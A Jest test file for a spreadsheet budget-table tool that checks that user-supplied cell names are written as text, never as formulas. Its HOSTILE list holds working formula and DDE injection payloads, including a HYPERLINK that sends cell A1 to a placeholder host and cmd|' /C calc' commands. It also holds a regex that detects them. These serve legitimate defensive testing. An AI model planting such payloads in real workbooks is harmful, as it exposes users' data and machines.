/**
 * Formula injection: names and texts copied from user cells into generated sheets are written as text,
 * never as formulas — in the plans, in the .xlsx the CLI writes, and through the Office.js adapter.
 */
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { main } from '../../src/cli/main';
import { periksaWorkbook, susunWorkbook } from '../../src/core/engine';
import { DEFAULT_SETTINGS } from '../../src/core/settings';
import type { SheetPlan } from '../../src/core/plan/sheet-plan';
import { applyPlans } from '../../src/excel/apply-plans';
import { readSnapshot } from '../../src/excel/read-snapshot';
import {
  addSheet,
  fakeContext,
  getCell,
  newState,
  setCells,
  sheetNamed,
  type FakeValue,
} from '../excel/fake-excel';
import { memoryIO, pct, sheetOf, xlsxOf } from './fixtures';

// Whole workbooks through ExcelJS: generous on a busy machine (no assertion on time).
jest.setTimeout(60_000);

/**
 * Texts that a spreadsheet would run if it took them for formulas or DDE commands. (A name led by `-`
 * is read as a rekening marker and its text, so `-` is exercised by the adapter's own tests.)
 */
const HOSTILE = [
  '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")',
  "+cmd|' /C calc'!A0",
  "=2+3+cmd|' /C notepad'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=WEBSERVICE("http://contoh.invalid")',
];
const PROGRAM = HOSTILE[0];
const SHEET = "Data 'Anggaran' 2023";

/** A budget table whose names are the hostile texts (each after a marker, so they are names). */
function hostileRows() {
  return [
    ['No', 'Uraian', 'Pagu Anggaran', 'Realisasi', 'Capaian (%)'],
    ['I', PROGRAM, 300000, 250000, pct(0.8333)],
    [1, HOSTILE[1], 200000, 170000, pct(0.85)],
    ['1)', HOSTILE[2], 120000, 100000, pct(0.8333)],
    ['2)', HOSTILE[3], 80000, 70000, pct(0.875)],
    [2, HOSTILE[4], 100000, 80000, pct(0.8)],
    ['JUMLAH', undefined, 300000, 250000, { value: 'seharusnya 83,33%', formula: undefined }],
  ];
}

function plansOfHostile(): SheetPlan[] {
  const result = periksaWorkbook(
    { name: 'x.xlsx', sheets: [sheetOf(SHEET, hostileRows())] },
    DEFAULT_SETTINGS,
  );
  return susunWorkbook(result, DEFAULT_SETTINGS).plans;
}

const mentionsHostile = (s: string): boolean => /HYPERLINK|WEBSERVICE|cmd\|/i.test(s);

describe('planners', () => {
  it('copy every hostile name as a value; no formula mentions them', () => {
    const plans = plansOfHostile();
    const cells = plans.flatMap((p) => p.cells.flatMap((r) => r ?? []));
    const values = cells.map((c) => c?.value).filter((v): v is string => typeof v === 'string');
    for (const text of HOSTILE) expect(values).toContain(text);
    const formulas = cells.map((c) => c?.formula).filter((f): f is string => f !== undefined);
    expect(formulas.length).toBeGreaterThan(0);
    expect(formulas.filter(mentionsHostile)).toEqual([]);
  });
});

describe('the .xlsx the CLI writes', () => {
  it('holds the hostile names as strings, with no <f> element that mentions them', async () => {
    const io = memoryIO({ 'x.xlsx': await xlsxOf({ [SHEET]: hostileRows() }) });
    expect(await main(['susun', 'x.xlsx', '-o', 'y.xlsx'], io)).toBe(0);
    const out = io.files.get('y.xlsx')!;

    const zip = await JSZip.loadAsync(out);
    const sheetXml = await Promise.all(
      Object.keys(zip.files)
        .filter((n) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n))
        .map((n) => zip.file(n)!.async('string')),
    );
    const formulas = sheetXml.flatMap((xml) => [...xml.matchAll(/<f[^>]*>([^<]*)<\/f>/g)].map((m) => m[1]));
    expect(formulas.length).toBeGreaterThan(0);
    expect(formulas.filter(mentionsHostile)).toEqual([]);

    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(out as unknown as ExcelJS.Buffer);
    const t38 = wb.getWorksheet('Tabel 3.8')!;
    const texts: string[] = [];
    t38.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.String) texts.push(cell.value as string);
      }),
    );
    for (const text of HOSTILE) expect(texts).toContain(text);
  });
});

describe('the Office.js adapter', () => {
  it('writes the hostile names so Excel keeps them as text (the apostrophe prefix), never as formulas', async () => {
    const state = newState();
    const sheet = addSheet(state, SHEET);
    const rows = hostileRows().map((r) =>
      r.map((v) => (v !== null && typeof v === 'object' ? v.value : (v ?? null)) as FakeValue),
    );
    setCells(sheet, 0, 0, rows);
    // setCells takes a leading `=` for a formula; the user typed these as text (with Excel's apostrophe).
    rows.forEach((row, r) =>
      row.forEach((v, c) => {
        if (typeof v === 'string' && v.startsWith('='))
          Object.assign(getCell(sheet, r, c)!, { value: v, formula: undefined });
      }),
    );
    const context = fakeContext(state);
    const all = () => true;
    const snapshot = await readSnapshot(context, { supported: all });
    const plans = susunWorkbook(periksaWorkbook(snapshot, DEFAULT_SETTINGS), DEFAULT_SETTINGS).plans;
    const report = await applyPlans(context, plans, { supported: all });
    const t38 = sheetNamed(state, report.written.find((w) => w.table === '3.8')!.sheet)!;
    const cells = [...t38.cells.values()];
    expect(cells.filter((c) => c.formula !== undefined && mentionsHostile(c.formula))).toEqual([]);
    const texts = cells.map((c) => c.value).filter((v): v is string => typeof v === 'string');
    for (const text of HOSTILE) expect(texts).toContain(text);
  });
});
